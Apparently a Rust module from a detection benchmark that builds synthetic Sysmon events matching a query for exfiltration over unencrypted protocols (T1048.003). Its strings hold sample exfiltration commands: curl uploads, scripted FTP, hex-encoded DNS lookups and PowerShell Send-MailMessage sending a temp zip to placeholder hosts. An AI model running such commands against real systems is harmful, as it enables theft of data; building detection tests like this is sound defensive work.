//! Single events that the T1048.003 query finds, for the benchmark.

use crate::event::Event;
use crate::program::{self, Program};
use crate::random::Random;
use crate::sysmon::{Host, Logon};
use crate::time::FileTime;

/// How many kinds of hits there are; every third is an event 3, the others are events 1.
pub const KINDS: u64 = 9;

/// The hit of this kind, counted from 0 and round again.
pub fn event(host: &Host, at: FileTime, kind: u64, random: &mut Random) -> Event {
    let file = format!("C:\\Users\\alice\\AppData\\Local\\Temp\\{}.zip", random.hex(8));
    let server = format!("203.0.113.{}", random.between(1, 255));
    match kind % KINDS {
        0 => start(host, at, program::FTP, format!("ftp.exe  -n -s:{file}.txt")),
        1 => start(
            host,
            at,
            program::CURL,
            format!("curl.exe  --upload-file {file} http://{server}:8080/upload"),
        ),
        2 => connect(host, at, program::FTP, server, 21),
        3 => start(host, at, program::CURL, format!("curl.exe --data-binary @{file} http://{server}/in")),
        4 => start(host, at, program::NSLOOKUP, format!("nslookup.exe {}.exfil.example.com", random.hex(48))),
        5 => connect(host, at, program::POWERSHELL, server, 25),
        6 => start(host, at, program::POWERSHELL, mail_line(&file, &server)),
        7 => start(host, at, program::CMD, format!("cmd.exe /c curl -T {file} ftp://{server}/incoming/")),
        _ => connect(host, at, program::UPDATER, server, 8080),
    }
}

fn mail_line(file: &str, server: &str) -> String {
    format!(
        "powershell.exe -NoProfile -Command \"Send-MailMessage -From 'alice@corp.example' -To 'drop@exfil.example' \
         -Subject 'weekly' -Attachments '{file}' -SmtpServer {server}\""
    )
}

fn start(host: &Host, at: FileTime, program: Program, line: String) -> Event {
    let shell = host.process(
        at.before_millis(9000),
        4812,
        program::CMD,
        "\"C:\\Windows\\system32\\cmd.exe\"",
        &user(),
    );
    host.process_create(at, &host.process(at, 6184, program, line, &user()), &shell)
}

fn connect(host: &Host, at: FileTime, program: Program, server: String, port: u16) -> Event {
    let process = host.process(at.before_millis(200), 6184, program.clone(), program.image, &user());
    host.network(at, &process, &host.connect(51_544, server, port))
}

fn user() -> Logon {
    Logon { user: "CORP\\alice".into(), id: 0xD_3B4A, session: 1, integrity: "Medium" }
}
